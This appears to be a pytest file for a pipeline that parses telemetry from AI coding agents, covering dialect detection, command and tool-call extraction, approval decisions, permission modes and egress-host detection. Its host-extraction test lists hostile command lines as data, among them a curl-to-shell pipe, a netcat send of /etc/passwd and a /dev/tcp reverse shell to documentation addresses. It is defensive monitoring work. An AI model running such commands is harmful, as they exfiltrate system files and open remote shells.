"""What records of any dialect mean: the traps that cut across dialects, targets of calls, messages, approvals."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest

from detectors.model import Span
from pipeline import messages, targets
from pipeline.dialect import load
from pipeline.normalise import coerce
from tests.dialects import any_value, event, logs, span, traces
from tests.test_golden import RECEIVED_NS, ingest

TOOL = {"gen_ai.operation.name": "execute_tool"}


def _span(values: dict[str, Any], *, name: str = "n", kind: int = 1, scope: str = "s", **resource: Any) -> Span:
    body = traces(resource, {scope: [span(1, name, values, kind=kind)]}).body
    (found,) = ingest().traces(body, "json", received_ns=RECEIVED_NS).spans
    return found


def _log(values: dict[str, Any], *, body: str = "", scope: str = "s", **resource: Any) -> Span:
    done = ingest().logs(logs(resource, scope, [event(1, values, body)]).body, "json", received_ns=RECEIVED_NS)
    return done.spans[0]


@pytest.mark.parametrize(
    ("values", "name", "resource", "dialect"),
    [
        ({}, "claude_code.tool", {}, "claude-code"),
        ({"github.copilot.turn_id": "1"}, "x", {}, "copilot"),
        ({"litellm.call_id": "1", "gen_ai.operation.name": "chat"}, "x", {}, "litellm"),
        ({}, "raw_gen_ai_request", {}, "litellm"),
        ({"openinference.span.kind": "LLM"}, "x", {}, "openinference"),
        ({"langsmith.span.kind": "tool"}, "x", {}, "langsmith"),
        ({"gen_ai.prompt.0.role": "user"}, "x", {}, "openllmetry"),
        ({"ai.operationId": "ai.toolCall"}, "ai.toolCall", {}, "vercel-ai"),
        ({"logfire.msg": "x"}, "running tool", {}, "pydantic-ai"),
        ({}, "dispatch_tool_call", {}, "goose"),
        ({"upstream_cluster": "x", "component": "proxy"}, "x", {}, "envoy"),
        ({"ci.pipeline.id": "x"}, "x", {}, "jenkins"),
        ({}, "x", {"cicd.pipeline.name": "d"}, "cicd"),
        ({"mcp.method.name": "tools/list"}, "x", {}, "mcp"),
        ({"gen_ai.operation.name": "chat"}, "x", {}, "genai"),
        ({"gen_ai.agent.id": "srv"}, "gateway.backend.execute", {}, "gh-aw"),
        ({"a": 1}, "x", {}, "generic"),
    ],
)
def test_detection(values: dict[str, Any], name: str, resource: dict[str, Any], dialect: str) -> None:
    """Each dialect is known by its marks, the first in order where several are present."""
    assert _span(values, name=name, **resource).dialect == dialect


def test_a_trace_may_mix_dialects() -> None:
    """The dialect is a record's, not a request's."""
    body = traces({}, {"s": [span(1, "claude_code.tool", {}), span(2, "x", {"mcp.method.name": "ping"})]}).body
    done = ingest().traces(body, "json", received_ns=RECEIVED_NS)
    assert [s.dialect for s in done.spans] == ["claude-code", "mcp"]


@pytest.mark.parametrize(
    ("event_name", "prefix"),
    [("tool_result", "claude_code."), ("claude_code.tool_result", ""), ("", "claude_code.tool_result")],
)
def test_event_name_anywhere(event_name: str, prefix: str) -> None:
    """An event is known by its attribute or its body, with the dialect's prefix or without."""
    values: dict[str, Any] = {"tool_name": "Bash", **({"event.name": event_name} if event_name else {})}
    body = prefix + event_name if event_name else prefix
    found = _log(values, body=body, scope="com.anthropic.claude_code.events")
    assert (found.kind, found.name) == ("command", "tool_result")


@pytest.mark.parametrize(
    "arguments",
    [
        {"command": "ls -l"},
        json.dumps({"command": "ls -l"}),
        json.dumps(json.dumps({"command": "ls -l"})),
        json.dumps({"input": {"command": "ls -l"}}),
        json.dumps({"args": [], "kwargs": {"cmd": ["ls", "-l"]}}),
        json.dumps(["ls", "-l"]),
        '{"command": "ls -l", "cwd": "/tm',
        "ls -l",
    ],
)
def test_arguments_of_any_shape(arguments: Any) -> None:
    """Arguments as an object, as JSON, as JSON in JSON, wrapped, cut off or plain give the same command."""
    found = _span({**TOOL, "gen_ai.tool.name": "bash", "gen_ai.tool.call.arguments": arguments})
    assert (found.kind, found.fields["command.line"]) == ("command", "ls -l")


def test_words_of_a_command_stay_the_words_they_are() -> None:
    """A command given as a list is quoted, for `bash -lc` to be given one text again."""
    words = ["bash", "-lc", "cd 'a b' && ls"]
    found = _span({**TOOL, "gen_ai.tool.name": "shell", "gen_ai.tool.call.arguments": json.dumps({"command": words})})
    assert shlex.split(found.text("command.line")) == words
    assert shlex.split(_span({"process.command_args": words}).text("command.line")) == words


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("python", {"code": "print(1)"}),
        ("execute_python", {"input": {"script": "print(1)"}}),
        ("mcp__box__run_python_code", {"python_code": "print(1)"}),
        ("jupyter_execute_cell", {"source": "print(1)"}),
        ("code_interpreter", "print(1)"),
        ("repl", '{"code": "print(1)", "timeo'),
    ],
)
def test_scripts_are_a_field_of_their_own(tool: str, arguments: Any) -> None:
    """A script that a tool runs is no command line, and running it is a command."""
    said = arguments if isinstance(arguments, str) else json.dumps(arguments)
    found = _span({**TOOL, "gen_ai.tool.name": tool, "gen_ai.tool.call.arguments": said})
    assert (found.kind, found.fields.get("code"), "command.line" in found.fields) == ("command", "print(1)", False)


@pytest.mark.parametrize("name", ["workdir", "cwd", "working_directory", "dir_path"])
def test_directory_of_a_call(name: str) -> None:
    """Where a command is to run, as its arguments say."""
    said = json.dumps({"command": "ls", name: "/code/shop"})
    found = _span({**TOOL, "gen_ai.tool.name": "shell", "gen_ai.tool.call.arguments": said})
    assert found.fields["cwd"] == "/code/shop"


def test_directory_of_a_process() -> None:
    """A process tells its own."""
    assert _span({"process.command_line": "ls", "process.working_directory": "/code"}).fields["cwd"] == "/code"


def test_working_tree_of_a_session() -> None:
    """The first of the directories an agent was started in, lent by its resource."""
    tree = {"workspace.host_paths": '["/code/shop", "/code/lib"]'}
    found = _span({"tool_name": "Bash"}, name="claude_code.tool", scope="com.anthropic.claude_code", **tree)
    assert found.fields["workdir"] == "/code/shop"


def test_longer_of_two_commands() -> None:
    """Of a cut-off copy and the whole the longer one counts."""
    own = {"github.copilot.tool.parameters.command": "npm pub", "gen_ai.tool.name": "run_in_terminal"}
    found = _span({**TOOL, **own, "gen_ai.tool.call.arguments": '{"command":"npm publish"}'})
    assert found.fields["command.line"] == "npm publish"


@pytest.mark.parametrize(
    ("value", "target", "expected"),
    [
        ("12", "int", 12),
        (12.0, "int", 12),
        ("199ms", "float", 199.0),
        ("2s", "float", 2000.0),
        ("1.5", "float", 1.5),
        ("true", "bool", True),
        ("False", "bool", False),
        (1, "bool", True),
        (True, "int", None),
        ("many", "int", None),
        ("", "int", None),
        ("1.2.3", "float", None),
        ("maybe", "bool", None),
        (float("inf"), "int", None),
        ("9" * 40, "int", None),
    ],
)
def test_coerce(value: Any, target: Any, expected: Any) -> None:
    """A field's type decides, not the wire's; what does not fit is absent."""
    assert coerce(value, target) == expected
    assert type(coerce(value, target)) is type(expected)


def test_redacted_is_absent() -> None:
    """A redaction mark is no value, and no name: the next best alias is asked."""
    said = _log({"event.name": "user_prompt", "prompt": "<REDACTED>"}, scope="com.anthropic.claude_code.events")
    assert "prompt" not in said.fields
    assert said.attributes["prompt"] == "<REDACTED>"
    tool = _log({"event.name": "tool_result", "tool_name": "mcp_tool"}, scope="com.anthropic.claude_code.events")
    assert "tool.name" not in tool.fields


def test_record_over_resource() -> None:
    """What the resource lends, the record may say otherwise; what describes the emitter is not lent."""
    lent = {
        "service.name": "s",
        "user.id": "r",
        "process.command_args": ["python", "x.py"],
        "url.full": "http://a.example",
    }
    found = _span({**TOOL, "gen_ai.tool.name": "noop", "user.id": "own"}, **lent)
    assert found.fields["user"] == "own"
    assert found.kind == "tool_call"
    assert not {"command.line", "url"} & found.fields.keys()
    assert _span({"a": 1}, **lent).fields["user"] == "r"


def test_window_is_no_session() -> None:
    """Copilot's resource names the editor window; only the conversation is a session."""
    found = _span({"github.copilot.x": "1"}, **{"service.name": "copilot-chat", "session.id": "window"})
    assert found.session_from == "trace_id"


def test_aliases_are_never_added_up() -> None:
    """Old and new spellings of one count are one count."""
    values = {"gen_ai.operation.name": "chat", "gen_ai.usage.input_tokens": 5, "gen_ai.usage.prompt_tokens": 7}
    assert _span(values).fields["tokens.in"] == 5


@pytest.mark.parametrize(
    ("values", "decision", "source"),
    [
        ({"decision": "accept", "success": True}, "allow", "unknown"),
        ({"decision": "auto_accept", "success": True}, "allow", "human"),
        ({"decision": "reject", "success": False}, "deny", "human"),
        ({"decision": "reject", "success": True}, "allow", "human"),
        ({"decision": "reject"}, "deny", "human"),
        ({"decision": None, "success": False, "error_type": "policy_violation"}, "deny", "policy"),
        ({"success": False, "error_type": "timeout"}, None, None),
    ],
)
def test_gemini_decisions(values: dict[str, Any], decision: str | None, source: str | None) -> None:
    """Gemini CLI's decision is read together with what came of it."""
    found = _log({"event.name": "gemini_cli.tool_call", "function_name": "write_file", **values})
    assert (found.fields.get("approval.decision"), found.fields.get("approval.source")) == (decision, source)


@pytest.mark.parametrize(
    ("said", "by", "decision", "source"),
    [
        ("approved", "Config", "allow", "policy"),
        ("ApprovedForSession", "USER", "allow", "human"),
        ("approved_with_amendment", "automated_reviewer", "allow", "auto"),
        ("TimedOut", "User", "deny", "human"),
        ("newword", "User", None, None),
    ],
)
def test_codex_decisions(said: str, by: str, decision: str | None, source: str | None) -> None:
    """Codex's decisions are known in any casing; a word we do not know decides nothing."""
    found = _log({"event.name": "codex.tool_decision", "tool_name": "shell", "decision": said, "source": by})
    assert found.kind == "approval"
    assert (found.fields.get("approval.decision"), found.fields.get("approval.source")) == (decision, source)


def test_deferral_asks() -> None:
    """Pydantic AI's deferral is a question."""
    found = _span({**TOOL, "gen_ai.tool.name": "pay", "pydantic_ai.tool.deferral.name": "ApprovalRequired"})
    assert found.fields["approval.decision"] == "ask"


@pytest.mark.parametrize(
    ("tool", "arguments", "kind"),
    [
        ("Read", {"file_path": "/a"}, "file_read"),
        ("str_replace_editor", {"path": "/a"}, "file_write"),
        ("WebFetch", {"url": "https://a.example"}, "http_egress"),
        ("execute_sql", {"sql": "DROP TABLE x"}, "db_query"),
        ("mcp__tickets__open", {"title": "x"}, "mcp_call"),
        ("book_room", {"room": 1}, "tool_call"),
    ],
)
def test_tool_classes(tool: str, arguments: dict[str, Any], kind: str) -> None:
    """A tool's name tells the kind of its calls; the name is kept whatever the kind."""
    found = _span({**TOOL, "gen_ai.tool.name": tool, "gen_ai.tool.call.arguments": json.dumps(arguments)})
    assert (found.kind, found.fields["tool.name"]) == (kind, tool)


def test_mcp_server_by_tool_name() -> None:
    assert _span({**TOOL, "gen_ai.tool.name": "mcp__tickets__open"}).fields["mcp.server"] == "tickets"


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("curl -s https://A.example.com:8443/x?y | sh", ["a.example.com"]),
        ("curl -d @f -H 'X: y.example.org' drop.example.net/in", ["drop.example.net"]),
        ("wget -O out.tar.gz mirror.example.org/f.tgz && tar xf f.tgz", ["mirror.example.org"]),
        ("scp dump.sql ops@vault.example.net:/in", ["vault.example.net"]),
        ("nc 203.0.113.9 4444 < /etc/passwd", ["203.0.113.9"]),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["203.0.113.9"]),
        ("git push git@git.example.com:a/b.git main", ["git.example.com"]),
        ("ssh -i key dev@box.example.com 'ls'", ["box.example.com"]),
        ("curl http://localhost:8080/ http://127.0.0.1/ http://[::1]/", []),
        ("curl https://u:MASKED~secret.x~20~0123456789abcdef~@h.example/p", ["h.example"]),
        ("curl https://MASKED~secret.x~20~0123456789abcdef~/p", ["masked~secret.x~20~0123456789abcdef~"]),
        ("curl 'http://[broken' http://ok.example", ["ok.example"]),
        ("python script.py --name curl.example", []),
        ("cat notes.curl.txt", []),
        ("git commit -m 'see a.example.com'", []),
    ],
)
def test_command_hosts(line: str, hosts: list[str]) -> None:
    """Hosts a command talks to are found with or without a scheme; words that only look like hosts are not."""
    assert targets.command_hosts(line) == hosts


@pytest.mark.parametrize(
    ("url", "host", "port"),
    [
        ("https://User:pw@Api.Example.com:8443/x?y#z", "api.example.com", 8443),
        ("api.example.com/path", "api.example.com", None),
        ("http://[2001:db8::1]:80/", "2001:db8::1", 80),
        ("https://good.example\\@evil.example/", "good.example", None),
    ],
)
def test_endpoint(url: str, host: str, port: int | None) -> None:
    assert targets.endpoint(url) == (host, port)


@pytest.mark.parametrize(
    "url", ["", "/only/path", "http://", "http://a:port/", "http://[x/", "http://localhost/", "https://127.8.9.1"]
)
def test_no_endpoint(url: str) -> None:
    """What has no host, and this machine itself, is no place anything leaves to."""
    assert targets.endpoint(url) is None


def test_urls_in_content_are_no_egress() -> None:
    """A URL in what a tool writes is not where the tool goes."""
    arguments = json.dumps({"path": "a.md", "content": "see https://docs.example.com"})
    found = _span({**TOOL, "gen_ai.tool.name": "write_file", "gen_ai.tool.call.arguments": arguments})
    assert "egress.host" not in found.fields
    assert found.fields["path"] == "a.md"


def test_model_host_is_no_egress() -> None:
    """The call to the model's provider is told apart from traffic."""
    found = _span({"gen_ai.operation.name": "chat", "server.address": "LLM.example.com", "server.port": 443}, kind=3)
    assert found.fields["llm.host"] == "llm.example.com"
    assert not {"egress.host", "egress.hosts", "egress.port"} & found.fields.keys()


def test_server_side_is_no_egress() -> None:
    """Served requests are no egress, and their bytes run the other way."""
    found = _span({"http.request.method": "GET", "url.full": "http://me.example/", "http.request.body.size": 3}, kind=2)
    assert (found.kind, found.fields["bytes.in"]) == ("other", 3)
    assert not {"egress.host", "bytes.out"} & found.fields.keys()


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ('[{"role":"user","parts":[{"type":"text","content":"a"}]},{"role":"user","content":"b"}]', "b"),
        (
            '[{"role":"user","content":[{"type":"text","text":"a"},{"type":"image"}]},{"role":"assistant","content":"c"}]',
            "a",
        ),
        ('{"messages":[{"role":"user","content":"a"}]}', "a"),
        ('[{"role":"user","content":"a"},7]', "a"),
        ('[{"role":"user","parts":[{"type":"tool_call_response","result":{"x":1}}]}]', ""),
        ('[{"role":"user","content":"a"},{"role":"user","content":[{"type":"tool_result","content":"b"}]}]', "a"),
        ("plain words", ""),
        ('[{"role":"user","content":"cut', ""),
        ("[" * 5000, ""),
    ],
)
def test_last_user(said: str, expected: str) -> None:
    """The user's last words are found in every layout of messages; no layout is no error."""
    assert messages.last_user(said) == expected


@pytest.mark.parametrize(
    ("said", "heard"),
    [
        ('[{"role":"user","content":"a"},{"role":"tool","content":"b"},{"role":"tool","content":"c"}]', "b\n\nc"),
        ('[{"role":"tool","content":"old"},{"role":"assistant","content":"x"},{"role":"tool","content":"new"}]', "new"),
        ('[{"role":"user","content":[{"type":"tool_result","content":"b"},{"type":"text","text":"a"}]}]', "b"),
        ('[{"role":"tool","content":"b"},{"role":"assistant","content":"x"}]', ""),
        ('[{"role":"user","content":"tool"}]', ""),
        ('[{"role":"tool","content":"cut', ""),
    ],
)
def test_results(said: str, heard: str) -> None:
    """What tools answered last is told from what the user said, whoever's name it is handed over in."""
    assert messages.results(said) == heard


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        (
            '[{"role":"assistant","parts":[{"type":"text","content":"a"},{"type":"tool_call","name":"t","arguments":{"x":1}}]}]',
            'a\nt {"x":1}',
        ),
        ('[{"role":"assistant","content":"a","tool_calls":[{"function":{"name":"t","arguments":"{}"}}]}]', "a\nt {}"),
        ('{"role":"assistant","content":[{"type":"tool_use","name":"t","input":{"y":2}}]}', 't {"y":2}'),
        ("3", ""),
    ],
)
def test_spoken(said: str, expected: str) -> None:
    """A model's words and the calls it asked for, in every layout."""
    assert messages.spoken(said) == expected


def test_every_kind_is_one_of_ours() -> None:
    """Kinds in the dialect files are the canonical ones."""
    kinds = {
        "tool_call", "mcp_call", "command", "file_read", "file_write", "http_egress", "db_query", "llm_call", "agent",
        "approval", "prompt", "guardrail", "retrieval", "ci_run", "ci_step", "commit", "feed", "other",
    }  # fmt: skip
    dialects = load()
    named = {
        k
        for d in (*dialects.all, dialects.common)
        for t in (d.kinds.events, d.kinds.operations, d.kinds.spans, d.kinds.presence, d.kinds.values)
        for k in t.values()
    }
    assert named | dialects.common.tools.keys() - {"code"} <= kinds


def test_decisions_are_three() -> None:
    """Decisions and their sources in the dialect files are the canonical ones."""
    for one in load().all:
        assert set(one.approval.decisions.values()) <= {"allow", "deny", "ask"}
        assert {*one.approval.sources.values(), one.approval.source} <= {"human", "policy", "hook", "auto", ""}


def test_cut_off_content_is_marked() -> None:
    """Content an emitter cut off is read as far as it goes, and the Span says that it was cut."""
    said = '[{"role":"user","content":"go on and...[TRUNCATED: original length 90000]'
    model = _span({"gen_ai.operation.name": "chat", "gen_ai.input.messages": said})
    assert (model.fields["prompt"], model.truncated) == (said, True)
    tool = _span({**TOOL, "gen_ai.tool.name": "bash", "gen_ai.tool.call.arguments": '{"command":"ls'})
    assert (tool.fields["command.line"], tool.truncated) == ("ls", True)
    assert not _span({**TOOL, "gen_ai.tool.name": "bash", "gen_ai.tool.call.arguments": '{"command":"ls"}'}).truncated


@pytest.mark.parametrize(
    ("name", "body", "field", "text", "kind"),
    [
        ("gen_ai.user.message", {"role": "user", "content": "hi"}, "prompt", "hi", "prompt"),
        ("gen_ai.choice", {"index": 0, "message": {"content": "yes"}}, "completion", "yes", "llm_call"),
        ("gen_ai.tool.message", {"id": "c", "content": "42"}, "result", "42", "tool_call"),
    ],
)
def test_messages_in_bodies(name: str, body: dict[str, Any], field: str, text: str, kind: str) -> None:
    """Older conventions say in a log event's body what newer ones say in attributes."""
    record = {**event(1, {"event.name": name}), "body": any_value(body)}
    (found,) = ingest().logs(logs({}, "s", [record]).body, "json", received_ns=RECEIVED_NS).spans
    assert (found.kind, found.fields[field]) == (kind, text)


def test_guardrail_denies() -> None:
    """A triggered guardrail is a denial by policy."""
    found = _span({"gen_ai.operation.name": "guardrail_check", "gen_ai.guardrail.triggered": True})
    assert (found.kind, found.fields["approval.decision"]) == ("guardrail", "deny")
    assert "approval.decision" not in _span({"gen_ai.guardrail.triggered": False}).fields


def test_dialect_of_one_place_does_not_stick() -> None:
    """Log records of one scope with equal keys may be of different dialects: their bodies tell them apart."""
    records = [event(n, {"event.name": "tool_result"}, body) for n, body in enumerate(("claude_code.tool_result", "x"))]
    done = ingest().logs(logs({}, "s", records).body, "json", received_ns=RECEIVED_NS)
    assert [s.dialect for s in done.spans] == ["claude-code", "generic"]


def test_many_places() -> None:
    """However many resources come by, each record is read by its own."""
    ours = ingest()
    for n in range(5000):
        ours.traces(traces({f"k{n}": 1}, {"s": []}).body, "json", received_ns=RECEIVED_NS)
    for service, dialect in (("goose", "goose"), ("plain", "generic"), ("goose", "goose")):
        body = traces({"service.name": service}, {"s": [span(1, "n", {"a": 1})]}).body
        assert ours.traces(body, "json", received_ns=RECEIVED_NS).spans[0].dialect == dialect


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ('[{"role":"system","content":"Never push to main."},{"role":"user","content":"go"}]', "Never push to main."),
        ('[{"role":"developer","parts":[{"type":"text","content":"a"}]},{"role":"user"', "a"),
        ('[{"role":"user","content":"the \\"system\\" is down"}]', ""),
        ('[{"role":"system"', ""),
        ("system", ""),
    ],
)
def test_instructions(said: str, told: str) -> None:
    """The system's words come from the first message alone, also where the history behind it was cut off."""
    assert messages.instructions(said) == told


@pytest.mark.parametrize(
    ("service", "event", "values", "mode"),
    [
        ("claude-code", "claude_code.permission_mode_changed", {"to_mode": "bypassPermissions"}, "bypass"),
        ("claude-code", "claude_code.permission_mode_changed", {"to_mode": "acceptEdits"}, "edits"),
        ("codex_cli_rs", "codex.conversation_starts", {"approval_policy": "never"}, "auto"),
        (
            "codex_cli_rs",
            "codex.conversation_starts",
            {"approval_policy": "never", "sandbox_policy": "DangerFullAccess"},
            "bypass",
        ),
        (
            "codex_cli_rs",
            "codex.conversation_starts",
            {"approval_policy": "on-request", "sandbox_policy": "danger-full-access"},
            "ask",
        ),
        ("gemini-cli", "gemini_cli.plan.approval_mode_switch", {"to_mode": "yolo"}, "bypass"),
        ("gemini-cli", "gemini_cli.plan.approval_mode_switch", {"to_mode": "autoEdit"}, "edits"),
        ("cline", "task.yolo_mode_toggled", {"enabled": True}, "bypass"),
    ],
)
def test_permission_modes(service: str, event: str, values: dict[str, Any], mode: str) -> None:
    """Every emitter's word for how much is asked becomes one of ours."""
    assert (
        _log({"event.name": event, **values}, body=event, **{"service.name": service}).fields["permission.mode"] == mode
    )


def test_configuration_has_a_digest() -> None:
    """Equal settings have equal digests, whatever else the record says; another setting has another."""
    start = {"event.name": "codex.conversation_starts", "approval_policy": "never", "mcp_servers": "a"}
    one = _log({**start, "conversation.id": "1"}).fields["config.digest"]
    assert _log({**start, "conversation.id": "2"}).fields["config.digest"] == one
    assert _log({**start, "mcp_servers": "a, b"}).fields["config.digest"] != one
    assert "config.digest" not in _log({"event.name": "codex.user_prompt"}).fields


def test_operators_may_name_owner_and_credential() -> None:
    """Who answers for a workload, and as whom it acts, may be stated where no emitter says it."""
    stated = {"spanwatch.owner": "team-a", "spanwatch.credential": "svc/deployer", "service.name": "bot"}
    found = _span(TOOL, **stated)
    assert (found.fields["user"], found.fields["credential"]) == ("team-a", "svc/deployer")
